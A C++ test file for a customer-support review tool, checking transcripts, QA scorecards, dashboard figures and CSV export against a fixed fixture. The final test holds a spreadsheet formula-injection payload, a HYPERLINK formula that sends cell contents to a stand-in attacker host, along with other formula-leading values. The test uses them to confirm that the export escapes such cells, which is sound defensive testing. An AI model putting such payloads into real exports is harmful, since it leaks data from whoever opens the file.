// The lead's tools over a known workspace: transcripts, the scorecard and the dashboard, each
// figure checked to the number against a fixture written row by row.

#include "review/Csv.h"
#include "review/Dashboard.h"
#include "review/ReviewStore.h"
#include "review/Scorecard.h"
#include "storage/Database.h"
#include "support/TestSupport.h"
#include "triage/PiiScanner.h"

#include <QSqlQuery>
#include <QSqlRecord>

using namespace CareDesk;
using Review::TimelineEntry;

namespace {

const QDateTime T0 = QDateTime::fromString(QStringLiteral("2026-11-02T09:00:00Z"), Qt::ISODate);
constexpr qint64 MIN = 60'000;
constexpr qint64 HOUR = 60 * MIN;

qint64 at(qint64 offsetMs)
{
    return T0.toMSecsSinceEpoch() + offsetMs;
}

// Five conversations in the period [T0, T0 + 1 day) and one before it:
//  C1 AcmeHelp service en   ana  answered after 10 min (SLA 1 h), resolved after 2 h
//  C2 AcmeHelp warranty es  ben  two messages, never answered, SLA passed
//  C3 Acme FB  service de   ana  answered after 2 h (SLA 1 h), pending, the customer wrote again
//  C4 AcmeHelp spam en      -    not actionable, dismissed, resolved after 1 min
//  C5 Acme FB  praise en    (ben replied) answered after 10 min, resolved after 24.5 h
//  C6 AcmeHelp other en     ana  two days before the period, resolved
struct Fixture
{
    Testing::TempWorkspace dir;
    std::unique_ptr<Storage::Database> db;
    QDateTime now = T0.addSecs(5 * 3600 + 30 * 60);
    qint64 c1 = 1, c2 = 2, c3 = 3, c4 = 4, c5 = 5, c6 = 6;

    void exec(const QString &sql, const QVariantList &values = {})
    {
        QSqlQuery query(db->connection());
        REQUIRE(query.prepare(sql));
        for (const QVariant &value : values)
            query.addBindValue(value);
        INFO(sql.toStdString());
        REQUIRE(query.exec());
    }

    void conversation(qint64 id, qint64 channel, const char *category, const char *language,
                      bool actionable, const char *status, const char *assignee, qint64 created,
                      QVariant firstResponse, QVariant resolved, qint64 slaDue)
    {
        exec(QStringLiteral("INSERT INTO customers(id, display_name, created_at) VALUES(?, ?, ?)"),
             {id, QStringLiteral("Customer %1").arg(id), created});
        exec(QStringLiteral("INSERT INTO conversations(id, channel_id, customer_id, thread_key, "
                            "status, language, sla_due,"
                            " assignee, created_at, updated_at, category, actionable, "
                            "first_response_at, resolved_at)"
                            " VALUES(?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)"),
             {id, channel, id, QStringLiteral("t%1").arg(id), QString::fromLatin1(status),
              QString::fromLatin1(language), slaDue, QString::fromLatin1(assignee), created,
              created, QString::fromLatin1(category), actionable ? 1 : 0, firstResponse, resolved});
    }

    qint64 nextMessage = 1;
    qint64 message(qint64 conversation, qint64 channel, bool inbound, qint64 created,
                   const char *addressed, const QString &text = QStringLiteral("Hello"),
                   const char *visibility = "public", const char *language = "en")
    {
        const qint64 id = nextMessage++;
        exec(QStringLiteral(
                 "INSERT INTO messages(id, conversation_id, channel_id, platform_id, direction, "
                 "visibility, text,"
                 " language, created_at, addressed) VALUES(?, ?, ?, ?, ?, ?, ?, ?, ?, ?)"),
             {id, conversation, channel, QStringLiteral("m%1").arg(id),
              inbound ? QStringLiteral("in") : QStringLiteral("out"),
              QString::fromLatin1(visibility), text, QString::fromLatin1(language), created,
              QString::fromLatin1(addressed)});
        return id;
    }

    void sent(qint64 conversation, qint64 channel, const char *author, qint64 messageId,
              qint64 created, const char *state = "sent")
    {
        exec(QStringLiteral("INSERT INTO outbox(client_id, channel_id, conversation_id, kind, "
                            "text, state, platform_id,"
                            " author, created_at, updated_at) VALUES(?, ?, ?, 'mention', 'reply', "
                            "?, ?, ?, ?, ?)"),
             {QStringLiteral("client-%1-%2").arg(messageId).arg(QString::fromLatin1(state)),
              channel, conversation, QString::fromLatin1(state),
              QStringLiteral("m%1").arg(messageId), QString::fromLatin1(author), created, created});
    }

    void audit(qint64 conversation, const char *actor, const char *action, const char *from,
               const char *to, qint64 when)
    {
        exec(QStringLiteral("INSERT INTO audit_events(at, actor, entity, entity_id, action, detail)"
                            " VALUES(?, ?, 'conversation', ?, ?, ?)"),
             {when, QString::fromLatin1(actor), conversation, QString::fromLatin1(action),
              QStringLiteral("{\"from\":\"%1\",\"to\":\"%2\"}")
                  .arg(QString::fromLatin1(from), QString::fromLatin1(to))});
    }

    Fixture()
    {
        auto opened = Storage::Database::open(dir.file(QStringLiteral("workspace.sqlite")));
        REQUIRE(opened.ok());
        db = std::move(opened).value();
        exec(QStringLiteral("INSERT INTO channels(id, plugin_id, name, platform, created_at) VALUES"
                            " (1, 'twitter', 'AcmeHelp', 'twitter', 0), (2, 'facebook', 'Acme FB', "
                            "'facebook', 0)"));

        conversation(c1, 1, "service", "en", true, "resolved", "ana", at(0), at(10 * MIN),
                     at(2 * HOUR), at(HOUR));
        message(c1, 1, true, at(0), "replied");
        sent(c1, 1, "ana", message(c1, 1, false, at(10 * MIN), "open"), at(10 * MIN));

        conversation(c2, 1, "warranty", "es", true, "open", "ben", at(HOUR), {}, {}, at(2 * HOUR));
        message(c2, 1, true, at(HOUR), "open", QStringLiteral("Mi garantía"), "public", "es");
        message(c2, 1, true, at(HOUR + 5 * MIN), "open", QStringLiteral("¿Hola?"), "public", "es");

        conversation(c3, 2, "service", "de", true, "pending", "ana", at(2 * HOUR), at(4 * HOUR), {},
                     at(3 * HOUR));
        message(c3, 2, true, at(2 * HOUR), "replied", QStringLiteral("Mein Paket ist nicht da"),
                "private", "de");
        audit(c3, "ana", "assign", "", "ana", at(2 * HOUR + 5 * MIN));
        exec(QStringLiteral("INSERT INTO notes(conversation_id, author, text, created_at) "
                            "VALUES(3, 'ana', 'Asked the depot', ?)"),
             {at(3 * HOUR)});
        sent(c3, 2, "ana",
             message(c3, 2, false, at(4 * HOUR), "open", QStringLiteral("Wir prüfen das"),
                     "private", "de"),
             at(4 * HOUR));
        audit(c3, "ana", "status", "open", "pending", at(4 * HOUR + MIN));
        message(c3, 2, true, at(4 * HOUR + 40 * MIN), "open", QStringLiteral("Danke, und jetzt?"),
                "private", "de");

        conversation(c4, 1, "spam", "en", false, "resolved", "", at(3 * HOUR), {},
                     at(3 * HOUR + MIN), at(4 * HOUR));
        message(c4, 1, true, at(3 * HOUR), "dismissed");

        conversation(c5, 2, "praise", "en", true, "resolved", "", at(30 * MIN), at(40 * MIN),
                     at(25 * HOUR), at(90 * MIN));
        message(c5, 2, true, at(30 * MIN), "replied");
        sent(c5, 2, "ben", message(c5, 2, false, at(40 * MIN), "open"), at(40 * MIN));
        sent(c5, 2, "ben", 999, at(41 * MIN), "failed"); // never went out: counts for nobody

        conversation(c6, 1, "other", "en", true, "resolved", "ana", at(-48 * HOUR), at(-47 * HOUR),
                     at(-46 * HOUR), at(-47 * HOUR));
        message(c6, 1, true, at(-48 * HOUR), "replied");
    }

    Review::ReviewStore store() { return Review::ReviewStore(db->connection()); }
};

QList<qint64> ids(const QList<Review::TranscriptRow> &rows)
{
    QList<qint64> list;
    for (const Review::TranscriptRow &row : rows)
        list.append(row.conversationId);
    std::sort(list.begin(), list.end());
    return list;
}

Review::DashboardFigures dashboard(Fixture &fixture, qint64 channelId = 0)
{
    auto figures = Review::computeDashboard(fixture.db->connection(),
                                            {T0, T0.addDays(1), channelId}, fixture.now);
    REQUIRE(figures.ok());
    return figures.value();
}

} // namespace

TEST_CASE("A transcript puts messages, notes, assignments and status changes on one timeline with "
          "the waits")
{
    Fixture fixture;
    auto transcript = fixture.store().transcript(fixture.c3, fixture.now);
    REQUIRE(transcript.ok());
    const QList<TimelineEntry> &entries = transcript.value().entries;
    QList<TimelineEntry::Kind> kinds;
    for (const TimelineEntry &entry : entries)
        kinds.append(entry.kind);
    CHECK(kinds == QList<TimelineEntry::Kind>{
                       TimelineEntry::Kind::CustomerMessage, TimelineEntry::Kind::Assignment,
                       TimelineEntry::Kind::Note, TimelineEntry::Kind::Reply,
                       TimelineEntry::Kind::StatusChange, TimelineEntry::Kind::CustomerMessage});
    CHECK(entries[1].to == u"ana");
    CHECK(entries[2].text == u"Asked the depot");
    CHECK(entries[3].actor == u"ana");                // the reply is the agent's, from the outbox
    CHECK(entries[3].customerWaitedSecs == 2 * 3600); // from the customer's message to the reply
    CHECK(entries[3].visibility == Core::Visibility::Private);
    CHECK(entries[4].from == u"open");
    CHECK(entries[4].to == u"pending");
    CHECK(transcript.value().firstResponseSecs == 2 * 3600);
    CHECK(transcript.value().resolutionSecs == -1);
    CHECK(transcript.value().longestWaitSecs == 2 * 3600);
    CHECK(transcript.value().slaBreached);
    CHECK(transcript.value().agent == u"ana");
}

TEST_CASE("Reading transcripts as a lead changes nothing in the conversations")
{
    Fixture fixture;
    const auto snapshot = [&] {
        QStringList rows;
        QSqlQuery query(fixture.db->connection());
        for (const char *sql :
             {"SELECT id, status, assignee, updated_at, first_response_at FROM conversations ORDER "
              "BY id",
              "SELECT id, addressed FROM messages ORDER BY id", "SELECT COUNT(*) FROM audit_events",
              "SELECT COUNT(*) FROM notes"}) {
            REQUIRE(query.exec(QString::fromLatin1(sql)));
            while (query.next()) {
                QStringList values;
                for (int i = 0; i < query.record().count(); ++i)
                    values.append(query.value(i).toString());
                rows.append(values.join(QLatin1Char('|')));
            }
        }
        return rows;
    };
    const QStringList before = snapshot();
    REQUIRE(fixture.store().transcripts({}, fixture.now).ok());
    for (qint64 id : {fixture.c1, fixture.c2, fixture.c3})
        REQUIRE(fixture.store().transcript(id, fixture.now).ok());
    CHECK(snapshot() == before);
}

TEST_CASE("Transcripts filter by agent, channel, period, category, language, outcome and SLA")
{
    Fixture fixture;
    Review::ReviewStore store = fixture.store();
    const auto list = [&](const Review::TranscriptFilter &filter) {
        auto rows = store.transcripts(filter, fixture.now);
        REQUIRE(rows.ok());
        return ids(rows.value());
    };
    Review::TranscriptFilter period;
    period.from = T0;
    period.to = T0.addDays(1);
    CHECK(list(period) == QList<qint64>{1, 2, 3, 4, 5});
    CHECK(list({}) == QList<qint64>{1, 2, 3, 4, 5, 6});

    Review::TranscriptFilter filter = period;
    filter.agent = QStringLiteral("ben"); // assigned C2; replied in C5, which nobody holds
    CHECK(list(filter) == QList<qint64>{2, 5});
    filter = period;
    filter.channelId = 2;
    CHECK(list(filter) == QList<qint64>{3, 5});
    filter = period;
    filter.category = QStringLiteral("service");
    CHECK(list(filter) == QList<qint64>{1, 3});
    filter = period;
    filter.language = QStringLiteral("es");
    CHECK(list(filter) == QList<qint64>{2});
    filter = period;
    filter.outcome = Review::TranscriptFilter::Outcome::Resolved;
    CHECK(list(filter) == QList<qint64>{1, 4, 5});
    filter.outcome = Review::TranscriptFilter::Outcome::Unresolved;
    CHECK(list(filter) == QList<qint64>{2, 3});
    filter = period;
    filter.slaBreachedOnly = true;
    CHECK(list(filter) == QList<qint64>{2, 3});

    auto rows = store.transcripts(period, fixture.now);
    REQUIRE(rows.ok());
    const auto row =
        std::find_if(rows.value().begin(), rows.value().end(),
                     [](const Review::TranscriptRow &r) { return r.conversationId == 1; });
    REQUIRE(row != rows.value().end());
    CHECK(row->channelName == u"AcmeHelp");
    CHECK(row->customerName == u"Customer 1");
    CHECK(row->firstResponseSecs == 600);
    CHECK_FALSE(row->slaBreached);
    CHECK(row->messageCount == 2);
    CHECK(row->reviewPercent == -1);
}

TEST_CASE("A scorecard and a review with comments on messages come back as saved")
{
    Fixture fixture;
    Review::ReviewStore store = fixture.store();
    REQUIRE(store.ensureCriteria(Review::defaultCriteria()).ok());
    REQUIRE(store.ensureCriteria(Review::defaultCriteria()).ok()); // once only
    auto criteria = store.criteria();
    REQUIRE(criteria.ok());
    REQUIRE(criteria.value().size() == 6);
    CHECK(criteria.value()[0].checkKey == u"answered");

    // The team edits its scorecard: renames one, drops "Tone", adds its own.
    QList<Review::Criterion> edited = criteria.value();
    edited[5].title = QStringLiteral("Solved or next step clear");
    edited.removeAt(4);
    edited.append({0, QStringLiteral("Offered the app"), QString(), 3, QString()});
    REQUIRE(store.saveCriteria(edited).ok());
    auto saved = store.criteria();
    REQUIRE(saved.ok());
    REQUIRE(saved.value().size() == 6);
    CHECK(saved.value()[4].title == u"Solved or next step clear");
    CHECK(saved.value()[5].title == u"Offered the app");
    CHECK(saved.value()[5].weight == 3);
    edited[0].title.clear();
    CHECK_FALSE(store.saveCriteria(edited).ok()); // a criterion needs a title

    Review::QaReview review;
    review.conversationId = fixture.c3;
    review.agent = QStringLiteral("ana");
    review.reviewer = QStringLiteral("Lea");
    review.summary = QStringLiteral("Good German, slow first answer.");
    review.scores = {{saved.value()[0].id, saved.value()[0].title, 2, 1},
                     {saved.value()[1].id, saved.value()[1].title, 1, 2},
                     {saved.value()[5].id, saved.value()[5].title, 3, std::nullopt}};
    review.comments = {{5, QStringLiteral("Two hours for a first answer")},
                       {0, QStringLiteral("Overall fine")}};
    auto id = store.saveReview(review, fixture.now);
    REQUIRE(id.ok());

    auto loaded = store.review(fixture.c3, QStringLiteral("Lea"));
    REQUIRE(loaded.ok());
    REQUIRE(loaded.value().has_value());
    const Review::QaReview &back = *loaded.value();
    CHECK(back.id == id.value());
    CHECK(back.agent == u"ana");
    CHECK(back.summary == review.summary);
    REQUIRE(back.scores.size() == 3);
    CHECK(back.scores[0].score == 1);
    CHECK(back.scores[1].score == 2);
    CHECK_FALSE(back.scores[2].score.has_value());
    CHECK(back.scores[2].weight == 3);
    REQUIRE(back.comments.size() == 2);
    CHECK(back.comments[0].messageId == 5);
    CHECK(back.comments[0].text == u"Two hours for a first answer");
    CHECK(back.comments[1].messageId == 0);
    CHECK(back.percent() == Approx(100.0 * (1 * 2 + 2 * 1) / (2 * 2 + 2 * 1)));

    // Renaming a criterion later leaves the review's wording as it was.
    saved.value()[0].title = QStringLiteral("Every message dealt with");
    REQUIRE(store.saveCriteria(saved.value()).ok());
    CHECK(store.review(fixture.c3, QStringLiteral("Lea")).value()->scores[0].title ==
          back.scores[0].title);

    // Saving again replaces the review instead of adding a second one.
    review.scores = {{saved.value()[0].id, saved.value()[0].title, 2, 2}};
    review.comments.clear();
    REQUIRE(store.saveReview(review, fixture.now.addSecs(60)).value() == id.value());
    auto again = store.review(fixture.c3, QStringLiteral("Lea")).value();
    CHECK(again->scores.size() == 1);
    CHECK(again->comments.isEmpty());
    CHECK(again->percent() == 100.0);

    // An agent's own reviews only.
    auto anas = store.reviews(QStringLiteral("ana"), {}, {});
    REQUIRE(anas.ok());
    CHECK(anas.value().size() == 1);
    CHECK(store.reviews(QStringLiteral("ben"), {}, {}).value().isEmpty());
    auto rows = store.transcripts({}, fixture.now).value();
    CHECK(std::find_if(rows.begin(), rows.end(), [](const auto &r) {
              return r.conversationId == 3;
          })->reviewPercent == 100.0);
}

TEST_CASE("The scorecard suggests what the transcript shows: unanswered messages, personal data in "
          "public, language")
{
    Fixture fixture;
    Review::ReviewStore store = fixture.store();
    REQUIRE(store.ensureCriteria(Review::defaultCriteria()).ok());
    const QList<Review::Criterion> criteria = store.criteria().value();
    const auto byKey = [&](const QHash<qint64, std::optional<int>> &scores, const char *key) {
        for (const Review::Criterion &criterion : criteria)
            if (criterion.checkKey == QLatin1String(key))
                return scores.value(criterion.id);
        return std::optional<int>();
    };
    Triage::PiiScanner pii;

    // C3: one of two messages still open; answered in private, in German.
    auto c3 =
        Review::suggestScores(store.transcript(fixture.c3, fixture.now).value(), criteria, pii);
    CHECK(byKey(c3, "answered") == 0);
    CHECK(byKey(c3, "pii") == 2);
    CHECK(byKey(c3, "language") == 2);
    CHECK(byKey(c3, "channel") == 2);
    CHECK(c3.size() == 4); // tone and resolution are for the reviewer alone

    // A public reply that shows an email address, in English to a Spanish customer.
    fixture.message(fixture.c2, 1, false, at(3 * HOUR), "open",
                    QStringLiteral("Write to ana.lopez@acme.example please"));
    auto c2 =
        Review::suggestScores(store.transcript(fixture.c2, fixture.now).value(), criteria, pii);
    CHECK(byKey(c2, "pii") == 0);
    CHECK(byKey(c2, "language") == 0);
    CHECK(byKey(c2, "answered") == 0);

    // C4 was never answered: whether a reply was right does not apply.
    auto c4 =
        Review::suggestScores(store.transcript(fixture.c4, fixture.now).value(), criteria, pii);
    CHECK(byKey(c4, "answered") == 2); // dismissed is dealt with
    CHECK_FALSE(byKey(c4, "pii").has_value());
}

TEST_CASE("Dashboard figures from the known workspace, to the number")
{
    Fixture fixture;
    Review::ReviewStore store = fixture.store();
    // QA: C1 scores 83.3 %, C3 scores 0 %: ana averages 41.7 %.
    REQUIRE(store
                .saveReview({0,
                             fixture.c1,
                             QStringLiteral("ana"),
                             QStringLiteral("Lea"),
                             {},
                             {},
                             {},
                             {{1, QStringLiteral("A"), 2, 2},
                              {2, QStringLiteral("B"), 1, 1},
                              {3, QStringLiteral("C"), 1, {}}},
                             {}},
                            T0.addSecs(3600))
                .ok());
    REQUIRE(store
                .saveReview({0,
                             fixture.c3,
                             QStringLiteral("ana"),
                             QStringLiteral("Lea"),
                             {},
                             {},
                             {},
                             {{1, QStringLiteral("A"), 2, 0}},
                             {}},
                            T0.addSecs(3600))
                .ok());
    // Canned responses: "Thanks" always sent as is, "Refund" always rewritten, "Hours" too rarely
    // used to judge.
    const auto use = [&](qint64 response, const char *title, double ratio) {
        fixture.exec(
            QStringLiteral(
                "INSERT INTO canned_uses(response_id, title, conversation_id, client_id, agent,"
                " inserted_text, sent_text, edit_ratio, at) VALUES(?, ?, 1, 'c', 'ana', 'x', 'y', "
                "?, ?)"),
            {response, QString::fromLatin1(title), ratio, at(HOUR)});
    };
    for (int i = 0; i < 5; ++i)
        use(1, "Thanks", 0.0);
    for (double ratio : {0.8, 0.7, 0.9, 0.6, 0.5})
        use(2, "Refund", ratio);
    use(3, "Hours", 0.0);
    use(3, "Hours", 0.0);

    const Review::DashboardFigures figures = dashboard(fixture);
    CHECK(figures.conversations == 5);
    CHECK(figures.inboundMessages == 7);
    CHECK(figures.replies == 3);

    REQUIRE(figures.byChannel.size() == 2);
    CHECK(figures.byChannel[0].key == u"AcmeHelp");
    CHECK(figures.byChannel[0].count == 3);
    CHECK(figures.byChannel[1].count == 2);
    REQUIRE(figures.byCategory.size() == 4);
    CHECK(figures.byCategory[0].key == u"service");
    CHECK(figures.byCategory[0].count == 2);
    REQUIRE(figures.byLanguage.size() == 3);
    CHECK(figures.byLanguage[0].key == u"en");
    CHECK(figures.byLanguage[0].count == 3);

    // First responses 10 min, 10 min, 2 h in buckets up to 15 min / 1 h / 4 h / 1 day / longer.
    CHECK(figures.firstResponse.counts == QList<int>{2, 0, 1, 0, 0});
    CHECK(figures.firstResponse.medianSecs == 600);
    CHECK(figures.firstResponse.p90Secs == 7200);
    // Resolutions 1 min, 2 h, 24.5 h in buckets up to 1 h / 4 h / 1 day / 3 days / longer.
    CHECK(figures.resolution.counts == QList<int>{1, 1, 0, 1, 0});
    CHECK(figures.resolution.medianSecs == 7200);
    CHECK(figures.resolution.p90Secs == 88200);
    // Now (T0 + 5.5 h) C2 has waited 4.5 h and C3 50 min.
    CHECK(figures.backlogAge.counts == QList<int>{1, 0, 1, 0, 0});
    CHECK(figures.backlogAge.total == 2);

    CHECK(figures.slaMet == 2);      // C1, C5
    CHECK(figures.slaBreached == 2); // C2 unanswered, C3 late; C4 is not actionable
    CHECK(figures.slaAttainment() == 50.0);
    CHECK(figures.actionableMessages == 6);
    CHECK(figures.answeredMessages == 3);
    CHECK(figures.responseRate() == 50.0);

    REQUIRE(figures.agents.size() == 2);
    const Review::AgentFigures &ana = figures.agents[0];
    CHECK(ana.agent == u"ana");
    CHECK(ana.conversations == 2);
    CHECK(ana.resolved == 1);
    CHECK(ana.replies == 2);
    CHECK(ana.medianFirstResponseSecs == 600);
    CHECK(ana.slaMet == 1);
    CHECK(ana.slaBreached == 1);
    CHECK(ana.qaPercent == Approx((100.0 * 5 / 6 + 0) / 2));
    const Review::AgentFigures &ben = figures.agents[1];
    CHECK(ben.agent == u"ben");
    CHECK(ben.conversations == 2);
    CHECK(ben.resolved == 1);
    CHECK(ben.replies == 1); // the failed attempt does not count
    CHECK(ben.medianFirstResponseSecs == 600);
    CHECK(ben.qaPercent == -1);

    REQUIRE(figures.templates.size() == 3);
    CHECK(figures.templates[0].title == u"Refund");
    CHECK(figures.templates[0].uses == 5);
    CHECK(figures.templates[0].averageEditRatio == Approx(0.7));
    CHECK(figures.templates[0].advice == Review::TemplateFigures::Advice::AlwaysRewritten);
    CHECK(figures.templates[1].title == u"Thanks");
    CHECK(figures.templates[1].unchanged == 5);
    CHECK(figures.templates[1].advice == Review::TemplateFigures::Advice::SentUnchanged);
    CHECK(figures.templates[2].advice == Review::TemplateFigures::Advice::None);

    // One channel only.
    const Review::DashboardFigures facebook = dashboard(fixture, 2);
    CHECK(facebook.conversations == 2);
    CHECK(facebook.slaMet == 1);
    CHECK(facebook.slaBreached == 1);
    CHECK(facebook.backlogAge.total == 1);
    CHECK(facebook.templates.isEmpty()); // every canned use was on AcmeHelp

    const QByteArray csv = Review::dashboardCsv(figures);
    CHECK(csv.startsWith("section,key,value\r\n"));
    CHECK(csv.contains("totals,conversations,5\r\n"));
    CHECK(csv.contains("totals,SLA attainment %,50.0\r\n"));
    CHECK(csv.contains("first response,<= 900 s,2\r\n"));
    CHECK(csv.contains("agent ana,QA %,41.7\r\n"));
    // Both reviews fall in the week of Monday 2 November.
    REQUIRE(figures.quality.size() == 1);
    REQUIRE(figures.quality[0].byWeek.size() == 1);
    CHECK(figures.quality[0].byWeek[0].first == QDate(2026, 11, 2));
    CHECK(csv.contains("agent ana,QA % week of 2026-11-02,41.7\r\n"));
}

TEST_CASE("How much of a canned response an agent rewrote is counted in words")
{
    CHECK(Review::editRatio(QStringLiteral("Thanks for waiting"),
                            QStringLiteral("Thanks for waiting")) == 0.0);
    CHECK(Review::editRatio(QStringLiteral("Thanks for waiting"),
                            QStringLiteral("  Thanks\nfor  waiting ")) == 0.0);
    CHECK(Review::editRatio(QStringLiteral("Thanks for waiting, Jane"),
                            QStringLiteral("Thanks for waiting, María")) == 0.25);
    CHECK(Review::editRatio(QStringLiteral("a b c"), QStringLiteral("x y z")) == 1.0);
    CHECK(Review::editRatio(QStringLiteral("a b"), QStringLiteral("a b c d")) == 0.5);
}

TEST_CASE("A CSV export shows a cell that starts like a formula as text, never as a formula")
{
    const QString link = QStringLiteral(R"x(=HYPERLINK("https://evil.example/?d="&A1,"Refund"))x");
    const QByteArray quotedLink = R"x("'=HYPERLINK(""https://evil.example/?d=""&A1,""Refund"")")x";
    CHECK(Review::csvField(link) == quotedLink);
    CHECK(Review::csvField(QStringLiteral("+1 555 0100")) == "'+1 555 0100");
    CHECK(Review::csvField(QStringLiteral("-2+3")) == "'-2+3");
    CHECK(Review::csvField(QStringLiteral("@SUM(A1:A9)")) == "'@SUM(A1:A9)");
    CHECK(Review::csvField(QStringLiteral("\t=1+1")) == "'\t=1+1");
    CHECK(Review::csvField(QStringLiteral("\r=1+1")) == "\"'\r=1+1\"");
    // Only the first character counts; plain text and empty cells stay as they are.
    CHECK(Review::csvField(QStringLiteral("a = b - c")) == "a = b - c");
    CHECK(Review::csvField(QStringLiteral("Jane, again")) == "\"Jane, again\"");
    CHECK(Review::csvField(QString()).isEmpty());
    CHECK(Review::csvRecord({QStringLiteral("a"), QStringLiteral("=1"), QString()}) ==
          "a,'=1,\r\n");

    // The dashboard's export: keys that come from outside the team are cells of their own.
    Review::DashboardFigures figures;
    figures.byChannel.append({QStringLiteral("@AcmeHelp"), 3});
    figures.byCategory.append({link, 2});
    figures.byLanguage.append({QStringLiteral("-en"), 1});
    const QByteArray csv = Review::dashboardCsv(figures);
    CHECK(csv.contains("channel,'@AcmeHelp,3\r\n"));
    CHECK(csv.contains(QByteArray("category," + quotedLink + ",2\r\n")));
    CHECK(csv.contains("language,'-en,1\r\n"));
    CHECK_FALSE(csv.contains(",=HYPERLINK"));
    CHECK_FALSE(csv.contains(",\"=HYPERLINK"));
}
